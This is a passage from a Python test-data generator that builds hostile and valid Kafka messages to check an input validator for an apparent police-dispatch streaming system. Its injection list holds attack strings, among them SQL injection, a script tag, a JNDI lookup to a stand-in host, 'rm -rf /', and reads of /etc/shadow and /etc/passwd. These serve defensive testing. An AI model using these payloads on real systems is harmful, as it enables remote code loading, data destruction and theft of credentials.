"""A deterministic corpus of hostile input interleaved with known valid events.

`corpus()` returns the messages in publish order, each labelled with what the contract (CONTRACT.md
§1) says must happen to it: "rejected" (with a substring the dead-letter reason must contain),
"accepted" (with the exact normalised event the validator must return, and the zones of
tests/zones_test.geojson it lies in) or "duplicate" (a re-encoding of an earlier valid event).
The labels are decided here from the contract rules, independently of zonewatch.contract;
tests/unit/streams/test_hostile_corpus.py checks that the validator agrees with every one of them.

Bad classes (`Msg.cls`), each spread over the three input topics:
  invalid_utf8   invalid UTF-8 inside and outside JSON strings, UTF-16/32, latin-1, random bytes
  huge_value     5 MB values (text field, binary, unterminated nesting)
  large_value    100-300 KB values (ids, text, garbage, long arrays)
  deep_nesting   [[[...]]] / {"a":{"a":...}} 100k levels, and just beyond the parser's depth limit
  nan_inf        NaN / Infinity / -Infinity / 1e999 literals in every numeric field
  huge_int       400-digit integers (and 20-25 digit ones) in ts, lat, lon, priority, ...
  wrong_type     every field of every topic with every wrong JSON type
  bad_id         ids with control / format / private-use characters, empty, 65+ chars
  bad_ts         1970, year 9999 / 2100, "2023-13-45T00:00:00Z", no offset, NUL-terminated, ...
  empty_value    null Kafka value, empty or blank value
  not_object     JSON that is not an object
  duplicate_keys a valid first value overridden by a bad last one
  bom            UTF-8 BOM before JSON, UTF-16 with BOM
  missing_field  each required field absent (or misspelt)
  out_of_range   values just outside each range / enum
  too_long       text, caller and lang over their limits
  caller_leak    rejected calls with the caller number as a string, number, list, object, escaped
                 key name, or cut off (it must never reach the dead-letter topic in clear)
  broken_json    truncated, trailing garbage, single quotes, comments, bad escapes, ...
  large_key      one bad value under a 1.5 MB Kafka key
Kafka keys of bad messages: half hostile (null, empty, invalid UTF-8, NUL, newline, 4000 bytes).
Valid classes: valid_flood (a burst of 600 maximal calls, ~24 KB each), valid (2,000: plain and
re-encoded: RFC 3339 ts with offsets, integral floats, unknown enums, printable injection-looking
ids and texts, unknown and deep extra fields, duplicate keys whose last value is good, edge
coordinates and ts, max-length ids/text, a 5 MB event with an unknown padding field, hostile Kafka
keys, a 1.5 MB key; about 20 % of them in zones) and valid_duplicate (60 re-encoded repeats, each
published after its original under the same key).
"""

from __future__ import annotations

import json
import random
from collections import Counter
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import orjson

CALLS, GPS, ALERTS = "calls.110", "patrol.gps", "camera.alerts"  # == zonewatch.contract (checked in tests)
TOPICS = (CALLS, GPS, ALERTS)
SOURCE = {CALLS: "calls", GPS: "gps", ALERTS: "alerts"}
KEY_FIELD = {CALLS: "call_id", GPS: "unit_id", ALERTS: "camera_id"}

ZONES_FILE = Path(__file__).parent / "zones_test.geojson"
CST = timezone(timedelta(hours=8))  # the deployment's default tz, Asia/Shanghai
EPOCH = datetime(1970, 1, 1, tzinfo=UTC)
MIN_TS_MS = 946_684_800_000
DAY = "2023-06-12"
DAY_START = int((datetime(2023, 6, 12, 9, 0, tzinfo=CST) - EPOCH).total_seconds()) * 1000
FINAL_CLOCK = DAY_START + 3_600_000  # 10:00 local: the largest valid ts, carried by one event
BIG = 5 * 1024 * 1024
GPS_WINDOW_MS = 8 * 60_000

CATEGORIES = ("violent theft fraud traffic fire medical dispute public_order lost_and_found assistance "
              "other").split()
ALERT_TYPES = ("face_watchlist vehicle_watchlist crowd_density fence_intrusion drone abandoned_object "
               "fight fire_smoke other").split()
STATUSES = ("available", "busy", "off_duty")
UNIT_KINDS = ("foot", "car", "motorcycle", "swat", "other")
FORCES = ("police", "auxiliary", "volunteer", "security")   # CONTRACT §1 v3

# Boxes (lat0, lat1, lon0, lon1) well inside the zones of tests/zones_test.geojson, by zone set.
ZONE_BOXES = {
    ("A",): (34.703, 34.717, 113.602, 113.608),
    ("A", "B"): (34.703, 34.717, 113.612, 113.618),
    ("B",): (34.703, 34.717, 113.622, 113.628),
    ("core", "inner", "outer"): (34.7003, 34.7017, 113.7003, 113.7017),
    ("inner", "outer"): (34.6985, 34.6995, 113.6990, 113.7030),
    ("outer",): (34.6960, 34.6970, 113.6960, 113.7060),
}
ZONE_IDS = ("A", "B", "outer", "inner", "core")

# Printable (hence valid) ids and texts that look like attacks.
INJECTION = ["'; DROP TABLE units;--", "Robert'); DROP TABLE calls;--", "<script>alert(1)</script>",
             "\" OR 1=1 --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd",
             "%s%s%s%n%x", "$(rm -rf /)", "`id`", "zw:zone:core", "*", "| cat /etc/shadow",
             "\\u0000", "\\\\server\\share", "警情-甲", "🚓🚨", "Ω≈ç√∫", "x y z", "\"quoted\"", "a|b|c"]
INJECTION_TEXT = INJECTION + ["\u0000\u0001\u0002 nul and friends", "line1\nline2\r\n\ttab",
                              "\u202egnp.exe", "\x1b[31mred\x1b[0m", "\ufeffbom", "\u200b\u2028\u2029"]
# Not printable (str.isprintable() is False): control, format, separators, private use, unassigned.
NONPRINTABLE = ["\x00", "\x01", "\x07", "\x08", "\t", "\n", "\r", "\x1b", "\x1f", "\x7f", "\x80", "\x85",
                "\x9f", "\xa0", "\u2028", "\u2029", "\u200b", "\u200e", "\u202e", "\u2066", "\u3000",
                "\ufeff", "\ue000", "\U000f0000", "\U000e0001", "\u0378"]
INVALID_UTF8 = [b"\xff", b"\xfe", b"\xc0\xaf", b"\xc1\xbf", b"\xe0\x80\xaf", b"\xed\xa0\x80", b"\xed\xbf\xbf",
                b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\x80", b"\xbf", b"\xc3\x28", b"\xe4\xb8",
                b"\xf0\x9f\x98", b"caf\xe9"]


@dataclass
class Msg:
    topic: str                  # contract (unprefixed) topic
    key: bytes | None
    value: bytes | None
    cls: str
    expect: str                 # "accepted" | "duplicate" | "rejected"
    reason: str | None = None   # rejected: a substring of the dead-letter reason
    norm: dict | None = None    # valid: the normalised event the validator returns
    zones: tuple = ()           # valid: the zones the event lies in

    @property
    def ident(self):
        """The contract's identity of a valid event (a repeat of it is a duplicate)."""
        n = self.norm
        return (self.topic, n["call_id"] if self.topic == CALLS else n["alert_id"] if self.topic == ALERTS
                else (n["unit_id"], n["ts"]))


def iso(ts_ms: int, tz: timezone = CST, sep: str = "T") -> str:
    dt = (EPOCH + timedelta(milliseconds=ts_ms)).astimezone(tz)
    s = dt.isoformat(sep=sep, timespec="milliseconds")
    return s[:-6] + "Z" if tz is UTC else s


def local_date(ts_ms: int) -> str:
    return (EPOCH + timedelta(milliseconds=ts_ms)).astimezone(CST).date().isoformat()


class _Gen:
    def __init__(self, seed: int):
        self.rng = random.Random(seed)
        self.n = 0
        self.unit_ts: dict[str, set] = {}

    def uid(self, prefix: str) -> str:
        self.n += 1
        return f"{prefix}{self.n:06d}"

    # -- locations ---------------------------------------------------------------------------
    def point(self, zones: tuple) -> tuple[float, float]:
        r = self.rng
        if zones:
            la0, la1, lo0, lo1 = ZONE_BOXES[zones]
            return round(r.uniform(la0, la1), 6), round(r.uniform(lo0, lo1), 6)
        while True:  # anywhere on the globe away from the zones
            lat, lon = round(r.uniform(-85, 85), 6), round(r.uniform(-180, 180), 6)
            if not (34.5 < lat < 34.9 and 113.4 < lon < 113.9):
                return lat, lon

    def ts(self) -> int:
        return self.rng.randrange(DAY_START, FINAL_CLOCK)

    def fix_ts(self) -> int:
        # Within the last 8 minutes: the state stage de-duplicates fixes only while they can still
        # change presence (streams/zone_state.py GPS_DEDUP_HORIZON_MS, 10 min of stream clock).
        return self.rng.randrange(FINAL_CLOCK - GPS_WINDOW_MS, FINAL_CLOCK)

    # -- canonical (normalised) events -------------------------------------------------------
    def call(self, zones=(), ts=None, **over) -> dict:
        r = self.rng
        lat, lon = self.point(zones)
        ev = {"call_id": self.uid("call-"), "ts": ts if ts is not None else self.ts(), "lat": lat, "lon": lon,
              "category": r.choice(CATEGORIES), "priority": r.randint(1, 4)}
        if r.random() < 0.5:
            ev["caller"] = f"138{r.randrange(10**8):08d}"
        if r.random() < 0.3:
            ev["lang"] = r.choice(["zh", "en", "vi", "th", "zh-Hans-CN", "yue"])
        if r.random() < 0.5:
            ev["text"] = r.choice(["stolen bike", "fight outside gate 3", "smoke seen", "lost child", "求助"])
        ev.update(over)
        return ev

    def fix(self, zones=(), ts=None, unit=None, **over) -> dict:
        r = self.rng
        lat, lon = self.point(zones)
        unit = unit or f"unit-{r.randrange(80):03d}"
        seen = self.unit_ts.setdefault(unit, set())
        ts = ts if ts is not None else self.fix_ts()
        while ts in seen:  # a ping is (unit_id, ts): keep them unique
            ts = self.fix_ts()
        seen.add(ts)
        # the force follows from the unit, drawing nothing: the corpus stays what it was before forces
        ev = {"unit_id": unit, "ts": ts, "lat": lat, "lon": lon, "status": r.choice(STATUSES),
              "kind": r.choice(UNIT_KINDS), "force": FORCES[sum(unit.encode()) % len(FORCES)]}
        if r.random() < 0.5:
            ev["speed"] = round(r.uniform(0, 30), 2)
        if r.random() < 0.5:
            ev["heading"] = round(r.uniform(0, 360), 1)
        ev.update(over)
        return ev

    def alert(self, zones=(), ts=None, **over) -> dict:
        r = self.rng
        lat, lon = self.point(zones)
        ev = {"alert_id": self.uid("alert-"), "camera_id": f"cam-{r.randrange(300):03d}",
              "ts": ts if ts is not None else self.ts(), "lat": lat, "lon": lon,
              "type": r.choice(ALERT_TYPES), "confidence": round(r.random(), 3), "severity": r.randint(1, 4)}
        ev.update(over)
        return ev

    def canonical(self, topic: str, zones=(), **over) -> dict:
        return {CALLS: self.call, GPS: self.fix, ALERTS: self.alert}[topic](zones, **over)

    # -- keys --------------------------------------------------------------------------------
    def hostile_key(self) -> bytes | None:
        r = self.rng
        return r.choice([None, None, b"", b"", b"\xff\xfe\xfd", b"\x00", b"k\nk", b"'; DROP TABLE x;--",
                         "警".encode(), r.randbytes(r.randint(1, 64)), b"k" * 4000])

    def key_for(self, topic: str, raw) -> bytes | None:
        if self.rng.random() < 0.25:
            return self.hostile_key()
        if isinstance(raw, dict):
            v = raw.get(KEY_FIELD[topic])
            if isinstance(v, str):
                return v.encode("utf-8", "surrogatepass") or None
        return None


def _dumps(obj) -> bytes:
    return orjson.dumps(obj)


def _with_raw_field(obj: dict, name: str, raw_value: bytes) -> bytes:
    """obj as JSON with field `name` set to raw JSON text (a literal orjson cannot produce)."""
    rest = {k: v for k, v in obj.items() if k != name}
    body = _dumps(rest)[:-1]
    sep = b"," if rest else b""
    return body + sep + b'"' + name.encode() + b'":' + raw_value + b"}"


# --- bad messages -----------------------------------------------------------------------------
REQUIRED = {CALLS: ["call_id", "ts", "lat", "lon", "category", "priority"],
            GPS: ["unit_id", "ts", "lat", "lon"],
            ALERTS: ["alert_id", "camera_id", "ts", "lat", "lon", "type", "confidence"]}
NUMERIC = {CALLS: ["ts", "lat", "lon", "priority"], GPS: ["ts", "lat", "lon", "speed", "heading"],
           ALERTS: ["ts", "lat", "lon", "confidence", "severity"]}
IDS = {CALLS: ["call_id"], GPS: ["unit_id"], ALERTS: ["alert_id", "camera_id"]}

# field -> (wrong values, reason) per kind of field
_ID_WRONG = [123, 1.5, True, False, [], ["x"], {}, {"id": "x"}, 0]
WRONG = {
    "call_id": (_ID_WRONG, "call_id must be a string"),
    "unit_id": (_ID_WRONG, "unit_id must be a string"),
    "alert_id": (_ID_WRONG, "alert_id must be a string"),
    "camera_id": (_ID_WRONG, "camera_id must be a string"),
    "ts": ([True, False, [], [1686535200000], {}, {"$date": 1686535200000}, 1686535200000.5, None],
           "ts must be epoch ms"),
    "lat": (["34.7", "", "north", True, False, [], [34.7], {}, {"lat": 34.7}], "lat must be a number"),
    "lon": (["113.6", "", True, [], [113.6], {}], "lon must be a number"),
    "category": ([1, 2.5, True, [], ["theft"], {}, {"theft": 1}], "category must be a string"),
    "priority": (["1", "high", "", True, False, 1.5, [], [1], {}], "priority must be an integer"),
    "type": ([1, True, [], ["fight"], {}], "type must be a string"),
    "confidence": (["0.5", "", True, False, [], [0.5], {}], "confidence must be a number"),
    "severity": (["1", True, 2.5, [], {}], "severity must be an integer"),
    "status": ([1, True, [], ["busy"], {}, "flying", "", "AVAILABLE", " available"], "status must be one of"),
    "kind": ([1, True, [], {}, "tank", "Car", ""], "kind must be one of"),
    "speed": (["fast", "", True, [], {}, -1, -0.001], "speed must be"),
    "heading": (["N", "", True, [], {}, -0.5, 360.01, 720], "heading must be"),
    "caller": ([13800138000, True, [], {}, ["138"]], "caller must be a string"),
    "lang": ([1, True, [], {}], "lang must be a string"),
    "text": ([1, 1.5, True, [], {"text": "x"}], "text must be a string"),
}
FIELDS = {CALLS: ["call_id", "ts", "lat", "lon", "category", "priority", "caller", "lang", "text"],
          GPS: ["unit_id", "ts", "lat", "lon", "status", "kind", "speed", "heading"],
          ALERTS: ["alert_id", "camera_id", "ts", "lat", "lon", "type", "confidence", "severity"]}
OUT_OF_RANGE = {
    "lat": ([90.000001, -90.0000001, 91, -91, 180.0, 1e10, -1e300], "lat"),
    "lon": ([180.000001, -180.0000001, 181, 360, -720.5, 1e300], "lon"),
    "priority": ([0, 5, -1, 100, 2**63 - 1, 18446744073709551615, 0.0, 4.0000001], "priority"),
    "severity": ([0, 5, -3, 99, 9.0], "severity"),
    "confidence": ([-0.0001, 1.0001, 2, -1, 100, 1e300], "confidence must be a number 0..1"),
    "heading": ([-0.1, 360.1, 720, 1e300], "heading must be a number 0..360"),
    "speed": ([-0.001, -1, -1e300], "speed must be a finite number"),
    "status": (["flying", "AVAILABLE", "Available ", "off duty", "available\u0000"], "status must be one of"),
    "kind": (["tank", "Car", "helicopter", "car "], "kind must be one of"),
}
BAD_TS = [  # (value, reason)
    (0, "before 2000"), (1, "before 2000"), (86_400_000, "before 2000"), (MIN_TS_MS - 1, "before 2000"),
    (-1, "before 2000"), (-10**15, "before 2000"), (-9223372036854775808, "before 2000"),
    ("1970-01-01T00:00:00Z", "before 2000"), ("1999-12-31T23:59:59.999Z", "before 2000"),
    ("2000-01-01T07:59:59+08:00", "before 2000"), ("0001-01-01T00:00:00+00:00", "before 2000"),
    (4_102_444_800_000, "too far in the future"), (253_402_300_799_999, "too far in the future"),
    (10**18, "too far in the future"), (9223372036854775807, "too far in the future"),
    (18446744073709551615, "too far in the future"), (1e300, "too far in the future"),
    (1.7976931348623157e308, "too far in the future"), ("9999-12-31T23:59:59Z", "too far in the future"),
    ("9999-12-31T23:59:59.999-23:59", "too far in the future"), ("2100-01-01T00:00:00+08:00", "too far in the future"),
    ("2023-13-45T00:00:00Z", "not RFC 3339"), ("2023-02-30T00:00:00Z", "not RFC 3339"),
    ("2023-06-12T25:00:00Z", "not RFC 3339"), ("2023-06-12T09:60:00+08:00", "not RFC 3339"),
    ("2023-06-12T09:00:00+24:00", "not RFC 3339"), ("yesterday", "not RFC 3339"), ("", "not RFC 3339"),
    ("now", "not RFC 3339"), ("1686535200000", "not RFC 3339"), ("-1", "not RFC 3339"),
    ("2023-06-12T09:00:00+08:00\x00", "not RFC 3339"), ("2023-06-12T09:00:00\x00+08:00", "not RFC 3339"),
    ("2023-06-12T09:00:00+08:00\n", "not RFC 3339"), ("2023-06-12\n09:00:00+08:00", "not RFC 3339"),
    ("2023-06-12\u200b09:00:00+08:00", "not RFC 3339"), ("２０２３-06-12T09:00:00+08:00", "not RFC 3339"),
    ("2023-06-12T09:00:00+08:00'; DROP TABLE calls;--", "not RFC 3339"), ("<script>", "not RFC 3339"),
    ("2" * 5000, "not RFC 3339"), (" 2023-06-12T09:00:00+08:00", "not RFC 3339"),
    ("2023-06-12T09:00:00", "no UTC offset"), ("2023-06-12", "no UTC offset"), ("20230612", "no UTC offset"),
    ("2023-06-12T09:00:00.123", "no UTC offset"),
    (1686535200000.5, "ts must be epoch ms"), (-0.5, "ts must be epoch ms"),
]
BROKEN_JSON = [b"{", b"}", b"{]", b"[}", b'{"call_id"}', b'{"call_id":}', b'{"a":1,}', b"{'call_id': 'x'}",
               b'{call_id: "x"}', b'{"a": 0x10}', b'{"a": 0123}', b'{"a": +1}', b'{"a": .5}', b'{"a": 1.}',
               b'{"a": 1e}', b'{"a": -}', b'{"a": "\\x41"}', b'{"a": "\\u12"}', b'{"a": "\\\'"}',
               b'{"a": "line\nbreak"}', b'{"a": "tab\there"}', b'{"a": True}', b'{"a": None}',
               b'{"a": undefined}', b'{/* c */ "a": 1}', b'{"a": 1} // c', b'{"a" 1}', b'{"a":: 1}',
               b'{"a": 1 "b": 2}', b'{"a": "\x00"}', b'{"a":1}\x00', b"\x00{}", b'{"a": "unterminated}',
               b'{"a": [1, 2}', b'{"a": {"b": 1]}', b"{}{}", b"{} {}", b"{}\n{}", b'{"a":1}x', b"{}}",
               b'{"\\ud800": 1}', b'{"a": "\\ud800"}', b'{"a": "\\udc00\\ud800"}', b"<xml/>", b"a=1&b=2",
               b"GET / HTTP/1.1\r\n\r\n", b"\x1f\x8b\x08\x00", b"PK\x03\x04", b"--", b"'", b'"', b"\\"]


class _Bad:
    """Builders of rejected messages, one method per class: each returns (value, reason)."""

    def __init__(self, g: _Gen):
        self.g = g
        self.r = g.rng

    def base(self, topic: str) -> dict:
        ev = self.g.canonical(topic)
        if topic == CALLS:  # optional fields off so a mutation is the only fault
            for k in ("caller", "lang", "text"):
                ev.pop(k, None)
        return ev

    def invalid_utf8(self, topic, i):
        r, ev = self.r, self.base(topic)
        bad = r.choice(INVALID_UTF8)
        how = r.randrange(6)
        if how == 0:  # inside an id string
            f = r.choice(IDS[topic])
            return _with_raw_field(ev, f, b'"id-' + bad + b'-x"'), "invalid JSON"
        if how == 1:  # inside a free-text / enum string
            f = {CALLS: "text", GPS: "status", ALERTS: "type"}[topic]
            return _with_raw_field(ev, f, b'"' + bad + b'"'), "invalid JSON"
        if how == 2:  # in a key
            return _dumps(ev)[:-1] + b',"k' + bad + b'":1}', "invalid JSON"
        if how == 3:  # whole message in another encoding
            enc = r.choice(["utf-16-le", "utf-16-be", "utf-32", "utf-16"])
            return json.dumps(ev).encode(enc), "invalid JSON"
        if how == 4:  # random binary with at least one invalid sequence
            blob = bytearray(r.randbytes(r.randint(1, 2000)))
            pos = r.randrange(len(blob) + 1)
            return bytes(blob[:pos]) + bad + bytes(blob[pos:]), "invalid JSON"
        return _dumps(ev) + bad, "invalid JSON"  # after the object

    def huge_value(self, topic, i):  # one of each shape
        shape = i % 3
        ev = self.base(topic)
        if shape == 0:
            ev.update({"caller": "13800138000", "text": "警" * (BIG // 3)})
            return _dumps(ev), "text longer than 4096"
        if shape == 1:
            return b"\xff" + self.r.randbytes(BIG - 1), "invalid JSON"
        return b"[" * BIG, "invalid JSON"

    def large_value(self, topic, i):
        r, ev = self.r, self.base(topic)
        size = r.randint(100_000, 300_000)
        how = r.randrange(5)
        if how == 0:
            f = r.choice(IDS[topic])
            ev[f] = "x" * size
            return _dumps(ev), f"{f} must be 1..64 chars"
        if how == 1 and topic == CALLS:
            ev["caller"] = "13900139000"
            ev["text"] = "y" * size
            return _dumps(ev), "text longer than 4096"
        if how == 2:
            return bytes(r.choice(b"abc{}[]:,\"' ") for _ in range(size // 10)) * 10 + b"\x00", "invalid JSON"
        if how == 3:
            return _dumps(list(range(size // 7))), "message is not a JSON object"
        ev["lat"] = [0.5] * (size // 4)
        return _dumps(ev), "lat must be a number"

    def deep_nesting(self, topic, i):
        r = self.r
        n = 100_000
        if i < 6:  # 100k levels, closed and unterminated
            return [b"[" * n + b"]" * n, b'{"a":' * n + b"1" + b"}" * n, b"[" * n,
                    b'{"a":' * n, b'{"call_id":' + b"[" * n + b"]" * n + b"}", b"[{" * n][i], "invalid JSON"
        how = r.randrange(2, 40)
        ev = self.base(topic)
        if how < 25:  # just beyond the parser's depth limit, inside a field
            n = r.randint(1025, 4000)
            f = r.choice(FIELDS[topic] + ["extra"])
            return _with_raw_field(ev, f, b"[" * n + b"]" * n), "invalid JSON"
        if how < 30:
            n = r.randint(1025, 3000)
            return _with_raw_field(ev, "extra", b'{"a":' * n + b"null" + b"}" * n), "invalid JSON"
        f = r.choice(["lat", "lon"])  # shallow nesting where a number belongs
        n = r.randint(1, 50)
        return _with_raw_field(ev, f, b"[" * n + b"34.7" + b"]" * n), f"{f} must be a number"

    def nan_inf(self, topic, i):
        r, ev = self.r, self.base(topic)
        f = r.choice(NUMERIC[topic])
        lit = r.choice([b"NaN", b"Infinity", b"-Infinity", b"nan", b"inf", b"-inf", b"1e999", b"-1e999",
                        b"Inf", b"+Infinity", b"-NaN"])
        return _with_raw_field(ev, f, lit), "invalid JSON"

    def huge_int(self, topic, i):
        r, ev = self.r, self.base(topic)
        f = r.choice(NUMERIC[topic])
        if r.random() < 0.7:  # beyond what a double can hold: not parseable as a number
            digits = "9" + "".join(r.choice("0123456789") for _ in range(399))
            return _with_raw_field(ev, f, (r.choice(["", "-"]) + digits).encode()), "invalid JSON"
        # 20-25 digits: parsed as a (huge) float, out of every range (speed excluded: finite is fine)
        f = r.choice([x for x in NUMERIC[topic] if x != "speed"])
        neg = f != "ts" and r.random() < 0.5
        digits = str(r.randrange(10**19, 10**25))
        reason = {"ts": "too far in the future", "lat": "lat", "lon": "lon", "priority": "priority",
                  "severity": "severity", "confidence": "confidence", "heading": "heading"}[f]
        return _with_raw_field(ev, f, (("-" if neg else "") + digits).encode()), reason

    def wrong_type(self, topic, i):
        r, ev = self.r, self.base(topic)
        f = r.choice(FIELDS[topic])
        values, reason = WRONG[f]
        v = r.choice(values)
        if v is None and f != "ts":
            reason = f"missing field {f}"
        ev[f] = v
        return _dumps(ev), reason

    def bad_id(self, topic, i):
        r, ev = self.r, self.base(topic)
        f = r.choice(IDS[topic])
        how = r.randrange(10)
        if how == 0:
            ev[f] = ""
            reason = f"{f} must be 1..64 chars"
        elif how == 1:
            ev[f] = r.choice(["x" * 65, "警" * 65, "'; DROP TABLE units;--" * 3, "a" * 10_000, "🚓" * 65])
            reason = f"{f} must be 1..64 chars"
        else:
            ch = r.choice(NONPRINTABLE)
            inj = r.choice(INJECTION)
            ev[f] = r.choice([ch, inj + ch, ch + inj, f"{inj[:20]}{ch}{inj[:20]}", ch * 64])[:64]
            reason = f"{f} contains control characters"
        return _dumps(ev), reason

    def bad_ts(self, topic, i):
        ev = self.base(topic)
        v, reason = BAD_TS[i] if i < len(BAD_TS) else self.r.choice(BAD_TS)
        ev["ts"] = v
        return _dumps(ev), reason

    def empty_value(self, topic, i):
        v, reason = self.r.choice([(None, "empty message value"), (None, "empty message value"),
                                   (b"", "invalid JSON"), (b" ", "invalid JSON"), (b"\n\t\r ", "invalid JSON"),
                                   (b"null", "message is not a JSON object"), (b"\x00", "invalid JSON")])
        return v, reason

    def not_object(self, topic, i):
        ev = self.base(topic)
        v = self.r.choice([b"[]", b"[{}]", _dumps([ev]), b"1", b"-0", b"3.14", b'"string"', b"true", b"false",
                           b"null", _dumps(json.dumps(ev)), b'[["call_id", "x"]]', b"  42  ", b'""'])
        return v, "message is not a JSON object"

    def duplicate_keys(self, topic, i):
        r, ev = self.r, self.base(topic)
        f = r.choice(REQUIRED[topic])
        choices = [(v, WRONG[f][1]) for v in WRONG[f][0] if v is not None]
        if f in OUT_OF_RANGE:
            choices += [(v, OUT_OF_RANGE[f][1]) for v in OUT_OF_RANGE[f][0]]
        if f in IDS[topic]:
            choices.append(("", f"{f} must be 1..64 chars"))
        if f == "ts":
            choices += BAD_TS
        v, reason = r.choice(choices)
        return _dumps(ev)[:-1] + b',"' + f.encode() + b'":' + _dumps(v) + b"}", reason

    def bom(self, topic, i):
        r, ev = self.r, self.base(topic)
        how = r.randrange(3)
        if how == 0:
            return b"\xef\xbb\xbf" + _dumps(ev), "invalid JSON"
        if how == 1:
            return json.dumps(ev).encode("utf-16"), "invalid JSON"  # with BOM
        f = r.choice(IDS[topic])  # a BOM character inside an id is a format character
        ev[f] = "\ufeff" + ev[f]
        return _dumps(ev), f"{f} contains control characters"

    def missing_field(self, topic, i):
        r, ev = self.r, self.base(topic)
        how = r.randrange(8)
        if how == 0:
            return b"{}", f"missing field {REQUIRED[topic][0]}"
        f = r.choice(REQUIRED[topic])
        v = ev.pop(f)
        if how == 1:  # misspelt: a different key is not the field
            ev[r.choice([f.upper(), f.title(), f + " ", " " + f, f + "\u200b"])] = v
        # the reason names the first missing required field, which is f
        return _dumps(ev), f"missing field {f}"

    def out_of_range(self, topic, i):
        r, ev = self.r, self.base(topic)
        f = r.choice([x for x in FIELDS[topic] if x in OUT_OF_RANGE])
        values, reason = OUT_OF_RANGE[f]
        ev[f] = r.choice(values)
        return _dumps(ev), reason

    def too_long(self, topic, i):
        r = self.r
        if topic != CALLS:  # only calls have free text; an over-long enum is out of range
            ev = self.base(topic)
            f = "status" if topic == GPS else "camera_id"
            ev[f] = "a" * r.randint(65, 5000)
            return _dumps(ev), ("status must be one of" if topic == GPS else "camera_id must be 1..64 chars")
        ev = self.base(topic)
        f, limit = r.choice([("text", 4096), ("caller", 64), ("lang", 35)])
        n = limit + r.choice([1, 2, 100, limit])
        ev[f] = r.choice(["x", "警", "🚓", "'"]) * n
        return _dumps(ev), f"{f} longer than {limit}"

    def caller_leak(self, topic, i):
        """Rejected messages carrying a caller number in every shape: never in clear in a dead letter."""
        ev = self.base(topic)
        ev["priority" if topic == CALLS else "lat"] = 99  # the fault; the caller comes after it
        reason = "priority 99 out of range" if topic == CALLS else "lat 99.0 out of range"
        shape = i % 7
        value = [b'"13800138000"', b"13800138000", b'["13800138000"]', b'{"n": "13800138000"}', b"+13800138000",
                 b'"1\\u0033800138000"', b'"13800138000"'][shape]
        key = [b"caller", b"call\\u0065r", b"\\u0063\\u0061\\u006c\\u006Cer"][i % 3]
        raw = _dumps(ev)[:-1] + b', "' + key + b'" : ' + value + b"}"
        if shape == 4:  # not JSON any more
            reason = "invalid JSON"
        if shape == 6:  # cut right after the number
            raw, reason = raw[:-2], "invalid JSON"
        return raw, reason

    def broken_json(self, topic, i):
        r, ev = self.r, self.base(topic)
        if i < len(BROKEN_JSON):
            return BROKEN_JSON[i], "invalid JSON"
        how = r.randrange(3)
        if how == 0:
            raw = _dumps(ev)
            return raw[:r.randrange(len(raw))], "invalid JSON"
        if how == 1:
            return _dumps(ev) + r.choice([b"x", b"}", b",", b"{}", _dumps(ev), b"\x00", b"]"]), "invalid JSON"
        return r.choice(BROKEN_JSON), "invalid JSON"


# class -> number of messages (spread evenly over the three input topics)
BAD_MIX = {
    "invalid_utf8": 1000, "huge_value": 3, "large_value": 24, "deep_nesting": 400, "nan_inf": 800,
    "huge_int": 800, "wrong_type": 1700, "bad_id": 1200, "bad_ts": 1000, "empty_value": 300,
    "not_object": 350, "duplicate_keys": 350, "bom": 200, "missing_field": 700, "out_of_range": 600,
    "too_long": 200, "caller_leak": 63, "broken_json": 310,
}


# --- valid messages ---------------------------------------------------------------------------
def _variant(g: _Gen, topic: str, ev: dict, change: bool = True) -> tuple[bytes, str]:
    """A valid encoding of the canonical event `ev`. With `change`, the raw may also carry values
    the validator normalises (unknown category -> other), and `ev` is updated to match.
    Returns (value, variant name)."""
    r = g.rng
    raw = dict(ev)
    how = r.choice(["plain"] * 6 + ["ts_iso", "ts_iso", "ts_float", "injection_text", "extra_fields",
                                    "deep_extra", "dup_keys", "ascii_escaped", "reordered", "whitespace",
                                    "int_enum_float"])
    if how == "ts_iso":
        tz = r.choice([CST, UTC, timezone(timedelta(hours=-5)), timezone(timedelta(hours=14)),
                       timezone(timedelta(hours=-12)), timezone(timedelta(hours=5, minutes=45))])
        raw["ts"] = iso(ev["ts"], tz, sep=r.choice(["T", "T", "T", " ", "t"]))
    elif how == "ts_float":
        raw["ts"] = float(ev["ts"])
    elif how == "injection_text" and topic == CALLS and change:
        raw["text"] = r.choice(INJECTION_TEXT)
        ev["text"] = raw["text"]
    elif how == "deep_extra":  # nested, but within the parser's depth limit (1024 with the object)
        depth = r.randint(1, 1000)
        return _with_raw_field(raw, "extra", b"[" * depth + b"]" * depth), how
    elif how == "extra_fields":
        extra = r.choice([{"__proto__": {"admin": True}},
                          {"constructor": {"prototype": {"x": 1}}}, {"$where": "1 == 1"},
                          {"call_id ": "shadow", "LAT": 91, "Ts": 0}, {"nested": {"ts": 0, "lat": 999}},
                          {"big": 10**18, "neg": -(10**18), "f": 1e300, "n": None, "b": [True, False]}])
        raw.update(extra)
    elif how == "dup_keys":  # first value bad, the last (good) one wins
        f = r.choice(REQUIRED[topic])
        bad = r.choice([None, "bad", -999, [], {}])
        body = _dumps({f: bad, **{k: v for k, v in raw.items() if k != f}})
        return body[:-1] + b',"' + f.encode() + b'":' + _dumps(raw[f]) + b"}", how
    elif how == "ascii_escaped":
        return json.dumps(raw, ensure_ascii=True).encode(), how
    elif how == "reordered":
        return json.dumps(dict(reversed(list(raw.items()))), ensure_ascii=False).encode(), how
    elif how == "whitespace":
        return b" \n\t" + json.dumps(raw, indent=r.choice([None, 2, "\t"])).encode() + b"\r\n ", how
    elif how == "int_enum_float":
        f = {CALLS: "priority", ALERTS: "severity", GPS: "heading"}[topic]
        if f in raw:
            raw[f] = float(raw[f])
    if topic == CALLS and change and how != "injection_text" and r.random() < 0.05:  # unknown -> other
        raw["category"] = r.choice(["aliens", "", "THEFT", "theft ", "'; DROP TABLE calls;--", "<b>x</b>"])
        ev["category"] = "other"
    if topic == ALERTS and change and r.random() < 0.05:
        raw["type"] = r.choice(["ufo", "", "Fight", "<script>"])
        ev["type"] = "other"
    return _dumps(raw), how


def _special_valid(g: _Gen) -> list[tuple[str, dict, bytes, str, bytes | None, tuple]]:
    """Edge-case valid events: (topic, canonical, value, cls, key, zones)."""
    out = []
    r = g.rng

    def add(topic, ev, value=None, key=b"__id__", zones=()):
        k = (ev.get(KEY_FIELD[topic], "").encode("utf-8") or None) if key == b"__id__" else key
